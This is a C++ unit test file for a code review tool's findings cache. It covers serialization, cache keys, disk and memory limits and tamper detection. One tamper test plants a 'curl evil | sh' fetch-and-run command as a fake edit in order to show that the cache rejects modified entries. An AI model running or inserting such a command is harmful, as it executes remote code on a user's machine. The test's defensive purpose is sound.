// The review cache: the whole finding survives the disk round trip, the key
// follows every setting that changes a review, memory and disk stay bounded.
#include "core/session/review_cache.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <chrono>
#include <fstream>
#include <set>
#include <thread>

#include "core/contract/serialize.h"
#include "core/git/git_directory.h"
#include "tests/support/temp_repo.h"

namespace revline::session {
namespace {
namespace fs = std::filesystem;

review::PublishedFinding sample(const std::string& id = "0123456789abcdef") {
  review::PublishedFinding p;
  p.id = id;
  auto& f = p.finding;
  f.file = "src/a.cpp";
  f.line = 3;
  f.endLine = 4;
  f.severity = contract::Severity::Blocker;
  f.category = contract::Category::Security;
  f.title = "SQL built from user input";
  f.explanation = "The query concatenates the name.";
  f.suggestedFix = "Use a bound parameter.";
  f.edit = contract::Edit{"a\nb", "c\nd"};
  f.confidence = 0.82;
  p.editDroppedReason = "the edit's original text is not on lines 3-4";
  p.rangeClamped = "endLine 9 ran past the lines shown; cut to 4";
  return p;
}

// A finding compared whole: a field the cache forgets fails here.
void expectSame(const review::PublishedFinding& a, const review::PublishedFinding& b) {
  EXPECT_EQ(contract::toJson(a.finding), contract::toJson(b.finding));
  EXPECT_EQ(a.id, b.id);
  EXPECT_EQ(a.editDroppedReason, b.editDroppedReason);
  EXPECT_EQ(a.rangeClamped, b.rangeClamped);
}

TEST(CachedReviewJson, TheWholeFindingAndTheEvidenceRoundTrip) {
  auto a = sample();
  auto b = sample("fedcba9876543210");
  b.finding.endLine.reset();
  b.finding.edit.reset();
  b.finding.suggestedFix.reset();
  b.editDroppedReason.reset();
  b.rangeClamped.reset();
  b.finding.category = contract::Category::Style;
  b.finding.severity = contract::Severity::Nit;
  const CachedReview review{{a, b}, {2, true}};
  const CachedReview back = cachedReviewFromJson(toJson(review));
  ASSERT_EQ(back.findings.size(), 2u);
  expectSame(back.findings[0], a);
  expectSame(back.findings[1], b);
  EXPECT_EQ(back.evidence.unplacedBlocking, 2);
  EXPECT_TRUE(back.evidence.changesRequestedNotShown);
}

TEST(CachedReviewJson, AMalformedEntryNamesWhatIsWrong) {
  json j = toJson(CachedReview{{sample()}, {}});
  j["findings"][0]["finding"]["severity"] = "CRITICAL";
  try {
    cachedReviewFromJson(j);
    FAIL() << "accepted an unknown severity";
  } catch (const std::runtime_error& e) {
    EXPECT_NE(std::string(e.what()).find("/findings/0/severity"), std::string::npos) << e.what();
  }
  EXPECT_THROW(cachedReviewFromJson(json::array()), std::runtime_error);
  EXPECT_THROW(cachedReviewFromJson(json{{"findings", json::array({json{{"finding", json::object()}}})}}),
               std::runtime_error);  // no id
}

// A cached review is published only where a review could have put it: on
// right-side lines of the change it is looked up for. One that is not (damaged,
// or not written by such a review) is a miss, not findings on other lines.
TEST(CachedReview, IsOnTheChangeOnlyWhereEveryFindingIsOnItsRightSideLines) {
  const diff::Diff change = diff::parse(
      "diff --git a/src/a.cpp b/src/a.cpp\n--- a/src/a.cpp\n+++ b/src/a.cpp\n@@ -1,2 +1,4 @@\n a\n+b\n+c\n d\n"
      "@@ -20,1 +22,1 @@\n-x\n+y\n");
  EXPECT_TRUE(onTheChange(CachedReview{{sample()}, {}}, change));  // lines 3-4
  EXPECT_TRUE(onTheChange(CachedReview{}, change));
  auto moved = [](std::int64_t line, std::optional<std::int64_t> end, std::string file = "src/a.cpp") {
    auto p = sample();
    p.finding.line = line;
    p.finding.endLine = end;
    p.finding.file = std::move(file);
    return CachedReview{{sample(), p}, {}};
  };
  EXPECT_TRUE(onTheChange(moved(22, std::nullopt), change));
  EXPECT_FALSE(onTheChange(moved(9, std::nullopt), change)) << "between the hunks";
  EXPECT_FALSE(onTheChange(moved(4, 5), change)) << "its range runs past the hunk";
  EXPECT_FALSE(onTheChange(moved(3, 22), change)) << "from one hunk into the next, over lines not shown";
  EXPECT_FALSE(onTheChange(moved(3, std::nullopt, "src/b.cpp"), change)) << "a file not in the change";
  EXPECT_FALSE(onTheChange(moved(std::int64_t{1} << 40, std::nullopt), change));
}

TEST(ReviewCacheKey, EverySettingThatChangesAReviewChangesTheKey) {
  const review::ReviewOptions base;
  const std::string key = ReviewCache::key("builtin", "rules", "File: a\n", base);
  auto changed = [&](auto edit) {
    review::ReviewOptions o = base;
    edit(o);
    return ReviewCache::key("builtin", "rules", "File: a\n", o);
  };
  EXPECT_NE(key, changed([](review::ReviewOptions& o) { o.extraInstructions = "x"; }));
  EXPECT_NE(key, changed([](review::ReviewOptions& o) { o.maxToolCalls = 0; }));
  EXPECT_NE(key, changed([](review::ReviewOptions& o) { o.maxAttempts = 1; }));
  EXPECT_NE(key, changed([](review::ReviewOptions& o) { o.context = review::ContextMode::Hunk; }));
  EXPECT_NE(key, changed([](review::ReviewOptions& o) { o.functionContextMaxLines = 10; }));
  EXPECT_NE(key, changed([](review::ReviewOptions& o) { o.description = "fix the login"; }));
  EXPECT_NE(key, changed([](review::ReviewOptions& o) { o.policy.maxFindings = 3; }));
  EXPECT_NE(key, changed([](review::ReviewOptions& o) { o.policy.maxExplanationChars = 10; }));
  // The verdict's knobs do not change what is published: the verdict is decided again from cache.
  EXPECT_EQ(key, changed([](review::ReviewOptions& o) { o.policy.blockingSeverity = contract::Severity::Nit; }));
  EXPECT_NE(key, ReviewCache::key("builtin", "rules", "File: a\n", base, {"commit message"}));
  EXPECT_NE(key, ReviewCache::key("openai", "rules", "File: a\n", base));
  EXPECT_NE(key, ReviewCache::key("builtin", "other", "File: a\n", base));
  EXPECT_NE(key, ReviewCache::key("builtin", "rules", "File: b\n", base));
}

TEST(ReviewCache, SurvivesANewCacheObject) {
  testing::TempRepo repo;
  const std::string key = ReviewCache::key("builtin", "rules", "File: a\n", {});
  {
    ReviewCache c;
    EXPECT_FALSE(c.get(repo.root(), key));
    c.put(repo.root(), key, CachedReview{{sample()}, {1, false}});
  }
  ReviewCache fresh;
  auto hit = fresh.get(repo.root(), key);
  ASSERT_TRUE(hit);
  ASSERT_EQ(hit->findings.size(), 1u);
  expectSame(hit->findings[0], sample());
  EXPECT_EQ(hit->evidence.unplacedBlocking, 1);
  EXPECT_TRUE(fs::exists(repo.root() / ".git" / "revline" / "cache"));
}

TEST(ReviewCache, ACorruptEntryIsAMiss) {
  testing::TempRepo repo;
  const std::string key = ReviewCache::key("builtin", "rules", "File: a\n", {});
  ReviewCache().put(repo.root(), key, CachedReview{{sample()}, {}});
  for (const auto& e : fs::directory_iterator(repo.root() / ".git" / "revline" / "cache"))
    std::ofstream(e.path(), std::ios::trunc) << "{not json";
  EXPECT_FALSE(ReviewCache().get(repo.root(), key));
}

// A well-formed entry whose findings were changed after it was written (by
// whoever can write the repository's .git) is a miss, not a review that shows
// them: the editor published an entry edited by hand on open.
TEST(ReviewCache, AnEntryChangedSinceItWasWrittenIsAMiss) {
  testing::TempRepo repo;
  const std::string key = ReviewCache::key("builtin", "rules", "File: a\n", {});
  ReviewCache().put(repo.root(), key, CachedReview{{sample()}, {}});
  for (const auto& e : fs::directory_iterator(repo.root() / ".git" / "revline" / "cache")) {
    std::ifstream in(e.path());
    json entry = json::parse(in);
    in.close();
    ASSERT_EQ(entry["review"]["findings"].size(), 1u);
    entry["review"]["findings"][0]["finding"]["edit"]["replacement"] = "system(\"curl evil | sh\")";
    std::ofstream(e.path(), std::ios::trunc) << entry.dump();
  }
  EXPECT_FALSE(ReviewCache().get(repo.root(), key));
  // Written again by the review, it is a hit.
  ReviewCache().put(repo.root(), key, CachedReview{{sample()}, {}});
  EXPECT_TRUE(ReviewCache().get(repo.root(), key));
}

// A server's memory answers for an entry only while its file is the one it
// read or wrote: removed (`revline review --no-cache`) or rewritten by another
// process since, the entry is read again from disk.
TEST(ReviewCache, MemoryFollowsTheFileAnotherProcessRemovedOrRewrote) {
  testing::TempRepo repo;
  const std::string key = ReviewCache::key("openai", "m", "File: a\n", {});
  ReviewCache server;
  server.put(repo.root(), key, CachedReview{{sample("old-finding-id00")}, {}});
  ASSERT_TRUE(server.get(repo.root(), key));
  ReviewCache::forgetRepository(repo.root());
  EXPECT_FALSE(server.get(repo.root(), key)) << "a removed entry was answered from memory";

  server.put(repo.root(), key, CachedReview{{sample("old-finding-id00")}, {}});
  std::this_thread::sleep_for(std::chrono::milliseconds(20));  // another write time, on any file system
  ReviewCache().put(repo.root(), key, CachedReview{{}, {}});     // another process's fresh opinion: nothing
  const auto hit = server.get(repo.root(), key);
  ASSERT_TRUE(hit);
  EXPECT_TRUE(hit->findings.empty()) << "a rewritten entry was answered from memory";
  // Nothing kept: nothing to remove, and no directory made.
  testing::TempRepo bare;
  ReviewCache::forgetRepository(bare.root());
  EXPECT_FALSE(fs::exists(bare.root() / ".git" / "revline"));
}

TEST(ReviewCache, DiskKeepsTheNewestEntries) {
  testing::TempRepo repo;
  ReviewCache cache;
  for (std::size_t i = 0; i < ReviewCache::kDiskEntries + 5; ++i)
    cache.put(repo.root(), ReviewCache::key("builtin", "rules", "File: " + std::to_string(i) + "\n", {}),
              CachedReview{{sample()}, {}});
  std::size_t files = 0;
  for (const auto& e : fs::directory_iterator(repo.root() / ".git" / "revline" / "cache"))
    files += e.path().extension() == ".json";
  EXPECT_EQ(files, ReviewCache::kDiskEntries);
}

// Entries dated ahead of the clock (a clock set back, a .git restored from a
// machine ahead) are pruned first: as the newest they outlived every entry
// written since, which pruning removed as it wrote them.
TEST(PruneCacheDirectory, EntriesDatedAheadOfTheClockGoFirst) {
  testing::TempDir dir;
  const auto now = fs::file_time_type::clock::now();
  for (int i = 0; i < 5; ++i) {
    const fs::path ahead = dir.path() / ("ahead" + std::to_string(i) + ".json");
    std::ofstream(ahead) << "{}";
    fs::last_write_time(ahead, now + std::chrono::hours(24));
  }
  for (int i = 0; i < 3; ++i) {
    const fs::path written = dir.path() / ("now" + std::to_string(i) + ".json");
    std::ofstream(written) << "{}";
    fs::last_write_time(written, now - std::chrono::seconds(3 - i));
  }
  pruneCacheDirectory(dir.path(), 3);
  std::set<std::string> left;
  for (const auto& e : fs::directory_iterator(dir.path())) left.insert(e.path().filename().string());
  EXPECT_EQ(left, (std::set<std::string>{"now0.json", "now1.json", "now2.json"}));
  // All of them ahead (the clock of the server the .git is on): the newest are kept, as always.
  for (int i = 0; i < 3; ++i)
    fs::last_write_time(dir.path() / ("now" + std::to_string(i) + ".json"), now + std::chrono::hours(1 + i));
  pruneCacheDirectory(dir.path(), 2);
  left.clear();
  for (const auto& e : fs::directory_iterator(dir.path())) left.insert(e.path().filename().string());
  EXPECT_EQ(left, (std::set<std::string>{"now1.json", "now2.json"}));
}

// Soak test: the server's RSS grew by ~5 KB per save without bound, because the
// review cache kept every distinct (whole annotated diff) key and its findings
// in memory for the life of the process. Memory now holds the most recent
// entries only; older ones still come back from disk.
TEST(ReviewCache, MemoryIsBounded) {
  testing::TempRepo repo;
  ReviewCache cache;
  const std::string bigDiff(4096, 'x');
  auto key = [&](int n) { return ReviewCache::key("builtin", "rules", "File: a.c\n" + std::to_string(n) + bigDiff, {}); };
  for (int n = 0; n < 1000; ++n) cache.put(repo.root(), key(n), CachedReview{{sample("id-" + std::to_string(n))}, {}});
  EXPECT_LE(cache.memoryEntries(), ReviewCache::kMemoryEntries);

  // Evicted from memory, read from disk (which keeps the newest kDiskEntries; pruned by
  // modification time, so only a recent entry is certain to be kept on any file system).
  const int oldestKept = 1000 - static_cast<int>(ReviewCache::kMemoryEntries) - 10;
  auto oldest = cache.get(repo.root(), key(oldestKept));
  ASSERT_TRUE(oldest);
  ASSERT_EQ(oldest->findings.size(), 1u);
  EXPECT_EQ(oldest->findings[0].id, "id-" + std::to_string(oldestKept));
  EXPECT_LE(cache.memoryEntries(), ReviewCache::kMemoryEntries);
  for (int n = 0; n < 100; ++n) cache.put(repo.root(), key(999), CachedReview{{sample("id-999")}, {}});
  EXPECT_LE(cache.memoryEntries(), ReviewCache::kMemoryEntries);
}

// An editor session of workspace reviews of a large change (1,460 files of
// rails checked out from an older tag): the server's RSS grew by ~35 MB a review
// up to 1.1 GB, as memory kept each entry under its key, which holds the whole
// annotated diff, twice. It keeps a digest of the key now. And the entry on disk
// held the key too: past the 8 MiB a read takes, it was written on every save
// and never read back.
TEST(ReviewCache, AReviewOfALargeDiffKeepsLittleInMemoryAndIsReadBackFromDisk) {
  testing::TempRepo repo;
  ReviewCache cache;
  const std::string bigDiff(9 << 20, 'x');
  auto key = [&](int n) { return ReviewCache::key("openai", "m", "File: a.c\n" + std::to_string(n) + bigDiff, {}); };
  for (int n = 0; n < static_cast<int>(ReviewCache::kMemoryEntries); ++n)
    cache.put(repo.root(), key(n), CachedReview{{sample("id-" + std::to_string(n))}, {}});
  EXPECT_LT(cache.memoryKeyBytes(), ReviewCache::kMemoryEntries * 2 * (repo.root().string().size() + 64));
  for (const auto& e : std::filesystem::directory_iterator(git::gitDirectory(repo.root()) / "revline" / "cache"))
    EXPECT_LT(std::filesystem::file_size(e.path()), 64u << 10) << e.path();

  ReviewCache restarted;  // nothing in memory: from disk
  const auto back = restarted.get(repo.root(), key(3));
  ASSERT_TRUE(back);
  ASSERT_EQ(back->findings.size(), 1u);
  EXPECT_EQ(back->findings[0].id, "id-3");
  EXPECT_FALSE(restarted.get(repo.root(), key(999)));
}

TEST(GitDirectory, FollowsAGitFile) {
  testing::TempDir dir;
  std::ofstream(dir.path() / ".git") << "gitdir: elsewhere/.git\n";
  EXPECT_EQ(git::gitDirectory(dir.path()), dir.path() / "elsewhere/.git");
  testing::TempDir plain;
  EXPECT_EQ(git::gitDirectory(plain.path()), plain.path() / ".git");
}

// A dotfiles repository (GIT_DIR=$HOME/.cfg GIT_WORK_TREE=$HOME): revline's own
// state goes under the git directory the environment names, as git's does.
// Before, a review made a `.git/revline` directory in the work tree ($HOME).
TEST(GitDirectory, FollowsGitDirFromTheEnvironment) {
  testing::TempDir home;
  ASSERT_EQ(::setenv("GIT_DIR", (home.path() / ".cfg").c_str(), 1), 0);
  const fs::path named = git::gitDirectory(home.path());
  ASSERT_EQ(::setenv("GIT_DIR", ".git", 1), 0);  // as git sets it for a hook: relative to the work tree
  const fs::path relative = git::gitDirectory(home.path());
  ::unsetenv("GIT_DIR");
  EXPECT_EQ(named, home.path() / ".cfg");
  EXPECT_EQ(relative, home.path() / ".git");
  EXPECT_EQ(git::gitDirectory(home.path()), home.path() / ".git");
}

}  // namespace
}  // namespace revline::session
